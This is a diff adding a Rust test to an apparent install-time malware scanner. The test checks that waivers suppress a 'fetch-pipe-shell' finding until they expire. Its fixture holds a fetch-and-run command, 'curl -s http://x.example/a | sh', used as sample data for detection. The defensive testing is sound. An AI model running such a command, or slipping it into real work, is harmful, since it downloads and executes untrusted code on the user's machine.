@@ -310,3 +310,52 @@ fn an_oom_killed_install_is_never_benign_and_says_why() {
         .expect("a finding names the limit");
     assert!(f.message.contains("OOM killer"), "{}", f.message);
 }
+
+#[test]
+fn waived_findings_stay_but_do_not_count() {
+    use airlock_rules::waiver::Date;
+    use airlock_rules::Waivers;
+    let t =
+        lc(r#"{"type":"process.exec","argv":["sh","-c","curl -s http://x.example/a | sh"],LC}"#);
+    let today = Date {
+        year: 2026,
+        month: 12,
+        day: 2,
+    };
+    let file = std::path::Path::new("airlock.toml");
+    let live = Waivers::parse(
+        file,
+        "[[waiver]]\nrule = \"fetch-pipe-shell\"\npackage = \"fixture-pkg@>=1.0.0, <2\"\nreason = \"installs its own toolchain\"\nexpires = 2027-01-01\n",
+    )
+    .unwrap();
+    let mut j = judge(&t);
+    assert_eq!(j.verdict, Verdict::Malicious);
+    let header = parse_fixture(None, &t).unwrap().0;
+    let warnings = rules().apply_waivers(&mut j, &header.package, &live, today);
+    assert!(warnings.is_empty(), "{warnings:?}");
+    assert_ne!(j.verdict, Verdict::Malicious, "{j:#?}");
+    let f = j
+        .findings
+        .iter()
+        .find(|f| f.rule == "fetch-pipe-shell")
+        .unwrap();
+    assert_eq!(
+        f.waived.as_ref().unwrap().reason,
+        "installs its own toolchain"
+    );
+    assert!(!f.decisive);
+    // An expired waiver is ignored with a warning.
+    let expired = Waivers::parse(
+        file,
+        "[[waiver]]\nrule = \"fetch-pipe-shell\"\npackage = \"fixture-pkg@1.0.0\"\nreason = \"r\"\nexpires = 2026-11-01\n",
+    )
+    .unwrap();
+    let mut j = judge(&t);
+    let warnings = rules().apply_waivers(&mut j, &header.package, &expired, today);
+    assert_eq!(j.verdict, Verdict::Malicious);
+    assert_eq!(warnings.len(), 1, "{warnings:?}");
+    assert!(
+        warnings[0].contains("expired on 2026-11-01"),
+        "{warnings:?}"
+    );
+}
